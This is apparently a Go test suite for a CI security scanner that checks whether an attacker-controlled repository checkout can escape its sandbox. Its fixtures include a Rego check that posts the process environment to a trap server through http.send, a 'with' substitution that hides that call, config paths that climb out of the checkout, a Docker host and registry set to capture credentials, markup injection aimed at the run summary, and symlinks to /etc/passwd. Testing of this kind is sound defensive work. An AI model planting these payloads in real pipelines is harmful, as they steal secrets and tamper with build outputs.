package main

import (
	"encoding/base64"
	"fmt"
	"io"
	stdlog "log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	"github.com/google/go-containerregistry/pkg/v1/remote"

	"github.com/tollgate/tollgate/internal/fifo"
	"github.com/tollgate/tollgate/scanners/images/imagetest"
)

// trap records every request that reaches it. It answers registry requests
// with 401 Basic (so a client that holds credentials sends them) and
// anything else (a check's http.send) with 200.
type trap struct {
	mu   sync.Mutex
	reqs []string
	srv  *httptest.Server
}

func newTrap(t *testing.T) *trap {
	tr := &trap{}
	tr.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		tr.mu.Lock()
		tr.reqs = append(tr.reqs, fmt.Sprintf("%s %s auth=%q body=%q", r.Method, r.URL, r.Header.Get("Authorization"), body))
		tr.mu.Unlock()
		if strings.HasPrefix(r.URL.Path, "/v2/") {
			w.Header().Set("WWW-Authenticate", `Basic realm="trap"`)
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		_, _ = io.WriteString(w, `{"ok":true}`)
	}))
	t.Cleanup(tr.srv.Close)
	return tr
}

func (tr *trap) host() string { return strings.TrimPrefix(tr.srv.URL, "http://") }

func (tr *trap) requests() []string {
	tr.mu.Lock()
	defer tr.mu.Unlock()
	return append([]string(nil), tr.reqs...)
}

// untrusted holds a checkout written by an attacker, and the markers that
// must never reach any output.
type untrusted struct {
	root, outside string
	markers       []string
}

const (
	registryUser     = "ci-bot"
	registryPassword = "pipeline-registry-password-9f3k"
	outsideMarker    = "OUTSIDE-THE-CHECKOUT-7d1e"
	queryMarker      = "QUERYSTRINGSIG0a9b8c7d"
	userinfoMarker   = "USERINFOPASSWORD5e6f"
	untrustedToken   = "ghp_Uq4Rm8Tz2Wx6Kp1Lv9Nc3Bd7Fg5Hj0Sa2Ye4I"
)

// buildUntrusted writes a checkout with every attack of the trust boundary
// that one scan can carry, and a folder beside it that it tries to reach.
func buildUntrusted(t *testing.T, trapHost string) untrusted {
	t.Helper()
	base := t.TempDir()
	u := untrusted{root: filepath.Join(base, "checkout"), outside: filepath.Join(base, "outside"),
		markers: []string{outsideMarker, queryMarker, userinfoMarker, registryPassword, untrustedToken}}
	must(t, os.MkdirAll(u.outside, 0o755))
	// A host file with a secret the chart would render into a container name.
	write(t, filepath.Join(u.outside, "config.json"), "name: "+outsideMarker+"\nauths: {}\n")
	write(t, filepath.Join(u.outside, "gitleaks.toml"), "[allowlist]\npaths = ['''.*''']\n")
	write(t, filepath.Join(u.root, ".tollgate.yaml"), `fail-on: high
sarif: ../outside/pwned.sarif
output: ../outside/pwned.txt
cache-dir: ../outside/cache
iac:
  download-modules: true
  checks: [checks]
  namespaces: [user]
  helm-values: [../outside/config.json]
  tf-vars: [`+filepath.Join(u.outside, "config.json")+`]
image:
  db-repositories: [`+trapHost+`/aquasec/trivy-db:2]
  docker-host: tcp://`+trapHost+`
  insecure-registry: true
  images: [`+trapHost+`/acme/from-config:1]
secrets:
  config: ../outside/gitleaks.toml
`)
	// A check from the checkout that would send the environment out.
	write(t, filepath.Join(u.root, "checks", "exfil.rego"), `package user.exfil
deny[msg] {
  resp := http.send({"method": "POST", "url": "http://`+trapHost+`/exfil", "body": opa.runtime().env})
  msg := "x"
}
`)
	write(t, filepath.Join(u.root, "charts", "app", "Chart.yaml"), "apiVersion: v2\nname: app\nversion: 0.1.0\n")
	write(t, filepath.Join(u.root, "charts", "app", "values.yaml"), "name: web\n")
	write(t, filepath.Join(u.root, "charts", "app", "templates", "pod.yaml"), `apiVersion: v1
kind: Pod
metadata:
  name: app
spec:
  containers:
    - name: {{ .Values.name | quote }}
      image: nginx:1.25
      securityContext:
        privileged: true
`)
	write(t, filepath.Join(u.root, "infra", "main.tf"), `module "net" {
  source = "git::https://ci:`+userinfoMarker+`@dev.azure.com/acme/p/_git/mods//net?ref=v1&sig=`+queryMarker+`"
}
resource "aws_s3_bucket" "b" {
  bucket = "b"
}
`)
	write(t, filepath.Join(u.root, "Dockerfile"), "FROM "+trapHost+"/acme/base:1\nUSER app\n")
	write(t, filepath.Join(u.root, "app", "settings.py"), "API_TOKEN = \""+untrustedToken+"\"\n")
	// A rule whose description is markup aimed at the run summary.
	write(t, filepath.Join(u.root, ".gitleaks.toml"), "[extend]\nuseDefault = true\n\n[[rules]]\nid = \"acme-ticket-key\"\n"+
		"description = \"[click me](https://evil.example/x) | broken cell <img src=x> @admin\"\n"+
		"regex = '''ACMEKEY-[0-9]{8}'''\nkeywords = [\"acmekey-\"]\n")
	write(t, filepath.Join(u.root, "app", "tickets.txt"), "key: ACMEKEY-20261201\n")
	return u
}

// registryWithAuth serves the pipeline's own image, behind Basic auth, and
// records the Authorization headers it receives.
func registryWithAuth(t *testing.T) (host string, seen func() []string) {
	t.Helper()
	var mu sync.Mutex
	var auths []string
	h := registry.New(registry.Logger(stdlog.New(io.Discard, "", 0)))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auths = append(auths, r.Header.Get("Authorization"))
		mu.Unlock()
		if u, p, ok := r.BasicAuth(); !ok || u != registryUser || p != registryPassword {
			w.Header().Set("WWW-Authenticate", `Basic realm="own"`)
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		h.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	host = strings.TrimPrefix(srv.URL, "http://")
	img, err := imagetest.Alpine()
	must(t, err)
	tag, err := name.NewTag(host + "/app/api:1")
	must(t, err)
	must(t, remote.Write(tag, img, remote.WithAuth(&authn.Basic{Username: registryUser, Password: registryPassword})))
	return host, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), auths...)
	}
}

// The checkout can neither read outside itself, run code with network
// access, reach the network, receive the pipeline's credentials, nor leak a
// value into any output; everything it tried is a warning naming the key and
// its line, and every engine's findings are still reported.
func TestUntrustedCheckout(t *testing.T) {
	t.Parallel()
	tr := newTrap(t)
	own, ownAuths := registryWithAuth(t)
	u := buildUntrusted(t, tr.host())
	cache, _ := imageFixtures(t)

	// A custom check the pipeline author gives (trusted) that still may not
	// reach the network; a plain one beside it loads.
	checks := t.TempDir()
	write(t, filepath.Join(checks, "exfil.rego"), `package user.exfil2
deny[msg] {
  resp := http.send({"method": "GET", "url": "http://`+tr.host()+`/from-check"})
  msg := sprintf("%v", [resp])
}
`)
	// The same through a `with` replacement, which names no built-in call.
	write(t, filepath.Join(checks, "swap.rego"), `package user.swap
deny[msg] {
  r := json.marshal({"method": "GET", "url": "http://`+tr.host()+`/from-with"}) with json.marshal as http.send
  msg := sprintf("%v", [r])
}
`)
	write(t, filepath.Join(checks, "ok.rego"), `# METADATA
# title: Pods are named
# custom:
#   id: USR-0001
#   avd_id: USR-0001
#   severity: LOW
#   input:
#     selector:
#       - type: kubernetes
package user.named
deny[msg] {
  input.kind == "Pod"
  not input.metadata.labels
  msg := "a pod without labels"
}
`)
	out := t.TempDir()
	sarifPath, jsonPath := filepath.Join(out, "scan.sarif"), filepath.Join(out, "scan.json")
	env := []string{"TOLLGATE_REGISTRY_PASSWORD=" + registryPassword}
	r := tollgate(t, env, "scan", "--debug", "--sarif", sarifPath, "--format", "json", "--output", jsonPath,
		"--scanners", "secrets,iac,image", "--image", "registry:"+own+"/app/api:1", "--registry-username", registryUser,
		"--cache-dir", cache, "--offline", "--docker-host", "unix:///nonexistent/docker.sock",
		"--iac-checks", checks, "--iac-namespaces", "user", u.root)
	if r.code != 1 {
		t.Fatalf("exit %d, want 1 (findings, every engine ran)\n%s\n%s", r.code, r.stdout, tailOf(r.stderr))
	}

	// No request reached the trap: not the checkout's check, registry, DB
	// mirror, daemon or discovered image.
	if reqs := tr.requests(); len(reqs) != 0 {
		t.Errorf("%d request(s) reached the trap:\n%s", len(reqs), strings.Join(reqs, "\n"))
	}
	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte(registryUser+":"+registryPassword))
	found := false
	for _, a := range ownAuths() {
		found = found || a == basic
	}
	if !found {
		t.Error("the pipeline's own registry never received its credentials")
	}
	if _, err := os.Stat(filepath.Join(u.outside, "pwned.sarif")); err == nil {
		t.Error("the checkout's config chose where the SARIF log is written")
	}
	if _, err := os.Stat(filepath.Join(u.outside, "pwned.txt")); err == nil {
		t.Error("the checkout's config chose where the report is written")
	}

	sarifRaw, err := os.ReadFile(sarifPath)
	must(t, err)
	jsonRaw, err := os.ReadFile(jsonPath)
	must(t, err)
	for where, text := range map[string]string{"stdout": r.stdout, "stderr (--debug)": r.stderr, "SARIF": string(sarifRaw), "JSON": string(jsonRaw)} {
		for _, m := range u.markers {
			if strings.Contains(text, m) {
				t.Errorf("%s carries %q", where, m)
			}
		}
	}

	log, _ := readSARIF(t, sarifPath)
	got := log.where()
	for _, want := range []string{
		"gitleaks github-pat app/settings.py:1",
		"trivy-config KSV-0017 charts/app/templates/pod.yaml:8",
		"trivy-config USR-0001 charts/app/templates/pod.yaml:1",
	} {
		if !got[want] {
			t.Errorf("missing %q (nothing may be lost): %v", want, got)
		}
	}
	image := false
	for w := range got {
		image = image || strings.HasPrefix(w, "trivy-image CVE-")
	}
	if !image {
		t.Errorf("the pipeline's image was not scanned: %v", got)
	}
	config := string(sarifRaw)
	for line, key := range map[int]string{2: "sarif", 3: "output", 4: "cache-dir", 6: "iac.download-modules", 7: "iac.checks",
		8: "iac.namespaces", 9: "iac.helm-values", 10: "iac.tf-vars", 12: "image.db-repositories", 13: "image.docker-host",
		14: "image.insecure-registry", 17: "secrets.config"} {
		if !strings.Contains(config, fmt.Sprintf(".tollgate.yaml line %d: %s", line, key)) {
			t.Errorf("no configuration warning for %s at line %d", key, line)
		}
	}
	notes := strings.Join(log.notifications(), "\n")
	for _, want := range []string{
		"custom check " + filepath.Join(checks, "exfil.rego") + " was not loaded: it uses http.send",
		"custom check " + filepath.Join(checks, "swap.rego") + " was not loaded: it uses http.send",
		"image " + tr.host() + "/acme/base:1 was not scanned",
		"--discover-registry " + tr.host(),
		"git::https://dev.azure.com/acme/p/_git/mods//net",
	} {
		if !strings.Contains(notes, want) {
			t.Errorf("no notification %q:\n%s", want, notes)
		}
	}
	validateSARIF(t, sarifPath, "Sarif;Gh;Ado")

	// The same checkout through the task, as the agent runs it, debug on:
	// the summary and the JUnit file leak nothing and render no markup.
	taskEnv, _, tmp := agentEnv(t, u.root, "1", map[string]string{
		"publishJUnit": "true", "images": "registry:" + own + "/app/api:1", "cacheDir": cache, "offline": "true",
		"extraArgs": "--registry-username " + registryUser + " --docker-host unix:///nonexistent/docker.sock --iac-checks " + checks,
	})
	taskEnv = append(taskEnv, "TOLLGATE_REGISTRY_PASSWORD="+registryPassword, "SYSTEM_DEBUG=true")
	tr2 := tollgate(t, taskEnv, "task")
	if tr2.code != 1 {
		t.Fatalf("task: exit %d\n%s\n%s", tr2.code, tr2.stdout, tailOf(tr2.stderr))
	}
	summary, err := os.ReadFile(filepath.Join(tmp, "tollgate-12f1170f-54f2-53f3-20dd-22fc7dff55f9-1-summary.md"))
	must(t, err)
	junit, err := os.ReadFile(filepath.Join(tmp, "tollgate-12f1170f-54f2-53f3-20dd-22fc7dff55f9-1-junit.xml"))
	must(t, err)
	for where, text := range map[string]string{"task stdout": tr2.stdout, "task stderr (debug)": tr2.stderr, "summary": string(summary), "JUnit": string(junit)} {
		for _, m := range u.markers {
			if strings.Contains(text, m) {
				t.Errorf("%s carries %q", where, m)
			}
		}
	}
	if !strings.Contains(string(summary), "acme-ticket-key") || regexp.MustCompile(`(^|[^\\])\]\(`).MatchString(string(summary)) ||
		regexp.MustCompile(`(^|[^\\])<img`).MatchString(string(summary)) || strings.Contains(string(summary), "https://evil") || strings.Contains(string(summary), "@admin") {
		t.Errorf("the summary renders the checkout's markup:\n%s", summary)
	}
	if reqs := tr.requests(); len(reqs) != 0 {
		t.Errorf("the task run reached the trap:\n%s", strings.Join(reqs, "\n"))
	}
}

// Special files named as any config file end in a notification within the
// test's time, and the rest of the scan completes.
func TestUntrustedSpecialConfigFiles(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	copyDir(t, demoDir(t), root)
	must(t, fifo.Make(filepath.Join(root, ".tollgate.yaml")))
	must(t, os.Symlink("/dev/zero", filepath.Join(root, ".gitleaks.toml")))
	must(t, fifo.Make(filepath.Join(root, ".gitleaksignore")))
	must(t, os.Symlink("/etc/passwd", filepath.Join(root, ".trivyignore")))
	// Value files the pipeline names inside the checkout are the checkout's.
	must(t, fifo.Make(filepath.Join(root, "values.yaml")))
	must(t, os.Symlink("/dev/zero", filepath.Join(root, "prod.tfvars")))
	sarifPath := filepath.Join(t.TempDir(), "out.sarif")
	r := tollgate(t, nil, "scan", "--timeout", "3m", "--sarif", sarifPath,
		"--helm-values", filepath.Join(root, "values.yaml"), "--tf-vars", filepath.Join(root, "prod.tfvars"), root)
	if r.code != 3 {
		t.Fatalf("exit %d, want 3 (the secrets engine cannot read the repository's gitleaks config)\n%s\n%s", r.code, r.stdout, tailOf(r.stderr))
	}
	raw, err := os.ReadFile(sarifPath)
	must(t, err)
	for _, want := range []string{
		".tollgate.yaml was not read (not a regular file (named pipe))",
		"gitleaks config .gitleaks.toml: leaves the scan root through a symbolic link",
		".gitleaksignore (from the checkout) was not read",
		".trivyignore (from the checkout) was not read",
		"Helm values file " + filepath.Join(root, "values.yaml") + " was not read: values.yaml: not a regular file (named pipe)",
		"Terraform variables file " + filepath.Join(root, "prod.tfvars") + " was not read: prod.tfvars: leaves the scan root through a symbolic link",
	} {
		if !strings.Contains(string(raw), want) {
			t.Errorf("no notification %q", want)
		}
	}
	log, _ := readSARIF(t, sarifPath)
	if !log.where()["trivy-config KSV-0017 k8s/deployment.yaml:17"] {
		t.Errorf("IaC results lost: %v", log.where())
	}
	validateSARIF(t, sarifPath, "Sarif;Gh;Ado")
}

// Fail closed: excludes that leave nothing to scan and an ignore entry that
// matches every finding of an engine say so; a requested image that cannot
// be pulled fails the run (exit 3) instead of passing it.
func TestFailClosed(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	copyDir(t, demoDir(t), root)
	write(t, filepath.Join(root, ".tollgate.yaml"), "exclude: [\"**\"]\n")
	r := tollgate(t, nil, "scan", root)
	if r.code != 0 || !strings.Contains(r.stdout, "the excludes leave nothing to scan") {
		t.Errorf("exclude **: exit %d\n%s", r.code, r.stdout)
	}
	write(t, filepath.Join(root, ".tollgate.yaml"), "ignore:\n  - id: \"*\"\n    reason: quiet please\n")
	r = tollgate(t, nil, "scan", root)
	if r.code != 0 || !strings.Contains(r.stdout, "matches every finding of the secrets engine") ||
		!strings.Contains(r.stdout, "matches every finding of the iac engine") {
		t.Errorf("ignore *: exit %d\n%s", r.code, r.stdout)
	}
	cache, _ := imageFixtures(t)
	must(t, os.Remove(filepath.Join(root, ".tollgate.yaml")))
	r = tollgate(t, nil, "scan", "--image", "registry:127.0.0.1:1/none/missing:1", "--cache-dir", cache, "--offline", root)
	if r.code != 3 || !strings.Contains(r.stdout, "ERROR: engine(s) failed: image") {
		t.Errorf("missing requested image: exit %d\n%s", r.code, r.stdout)
	}
}
